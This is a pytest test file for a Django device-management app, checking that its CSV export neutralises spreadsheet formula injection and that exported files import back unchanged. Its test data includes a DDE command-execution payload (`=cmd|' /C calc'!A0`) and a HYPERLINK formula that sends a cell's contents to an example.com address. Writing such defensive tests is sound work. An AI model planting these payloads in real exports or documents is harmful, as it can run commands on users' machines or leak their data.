"""CSV injection: no exported cell is a spreadsheet formula, and a file exported then
imported gives back the same values.

A device reports its ``model``, ``os`` and ``system``; an operator writes notes, group
and template names. A value such as ``=cmd|' /C calc'!A0`` or ``@SUM(1+1)`` must reach a
spreadsheet as text: the export puts a single quote before any cell a spreadsheet would
run (OWASP's list: ``=``, ``+``, ``-``, ``@``, tab, carriage return, also after leading
spaces), and before a cell that starts with a quote; the import removes that quote.
"""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from django_netjsonconfig.apps import get_model
from django_netjsonconfig.io import importexport

from ..admin_helpers import admin_url
from ..factories import DeviceFactory, DeviceGroupFactory, TemplateFactory, make_config

pytestmark = pytest.mark.django_db

FORMULAS = (
    "=1+1",
    "+41 22 123",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "'=already quoted",
    "'plain quote",
    "-",
)
#: a spreadsheet reads these as formulas too, but the import strips the spaces around
#: every value, so they are checked in the export only
FORMULAS_WITH_SPACE = ("\t=1+1", "\r=1+1", " =1+1", "\u00a0@SUM(1)", "\n-1")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def export(client, fmt="csv"):
    response = client.get(admin_url("device", "export", fmt))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def import_file(client, text, name="devices.csv"):
    response = client.post(
        admin_url("device", "import"), {"file": SimpleUploadedFile(name, text.encode())}
    )
    assert response.status_code == 302, response.context["result"].errors
    return response


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def looks_like_a_formula(cell):
    return cell.lstrip(" \n\u00a0")[:1] in DANGEROUS


def test_defuse_and_restore_are_inverse_for_any_text():
    for value in (*FORMULAS, *FORMULAS_WITH_SPACE, "", "x", "''", "'", "a=b", "'-", "''=x"):
        defused = importexport.defuse_cell(value)
        assert not looks_like_a_formula(defused), value
        assert importexport.restore_cell(defused) == value


def test_no_exported_cell_is_a_formula(admin_client):
    group = DeviceGroupFactory(name="=group")
    template = TemplateFactory(name="@template")
    for number, value in enumerate(FORMULAS + FORMULAS_WITH_SPACE):
        device = DeviceFactory(model=value, os=value, system=value, notes=value, group=group)
        make_config(device, templates=[template])
        assert device.pk, number

    text = export(admin_client)

    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS + FORMULAS_WITH_SPACE)  # each row reads back whole
    assert sorted(importexport.restore_cell(row["model"]) for row in rows) == sorted(
        FORMULAS + FORMULAS_WITH_SPACE
    )
    found = [cell for cell in cells(text) if looks_like_a_formula(cell)]
    assert found == []
    assert "'=cmd|' /C calc'!A0" in cells(text)
    assert "'@template" in cells(text) and "'=group" in cells(text)


def test_the_json_export_keeps_the_values_as_they_are(admin_client):
    DeviceFactory(model="=1+1", os="@SUM(1)")
    rows = json.loads(export(admin_client, "json"))
    assert (rows[0]["model"], rows[0]["os"]) == ("=1+1", "@SUM(1)")


def test_an_exported_file_imported_again_gives_back_the_same_values(admin_client):
    group = DeviceGroupFactory(name="=group")
    first = TemplateFactory(name="@first")
    second = TemplateFactory(name="-second")
    device_model = get_model("device")
    originals = {}
    for number, value in enumerate(FORMULAS):
        device = DeviceFactory(
            name=f"router-{number}",
            model=value,
            os=value[::-1],
            system=value,
            notes=f"{value}\n=second line",
            group=group,
        )
        make_config(device, templates=[first, second], context={"note": value})
        originals[device.name] = (
            device.model,
            device.os,
            device.system,
            device.notes,
            device.group.name,
        )
    text = export(admin_client)
    device_model.objects.all().delete()

    import_file(admin_client, text)

    imported = {
        d.name: (d.model, d.os, d.system, d.notes, d.group.name)
        for d in device_model.objects.select_related("group")
    }
    assert imported == originals
    for device in device_model.objects.select_related("config"):
        assert [t.name for t in device.config.templates.all()] == ["@first", "-second"]
        assert device.config.context["note"] == originals[device.name][0]


def test_a_quote_before_a_formula_in_a_hand_written_file_is_removed():
    assert importexport.restore_cell("'=1+1") == "=1+1"
    assert importexport.restore_cell("'plain") == "'plain"  # not one the export would have written
    assert importexport.restore_cell("''x") == "'x"
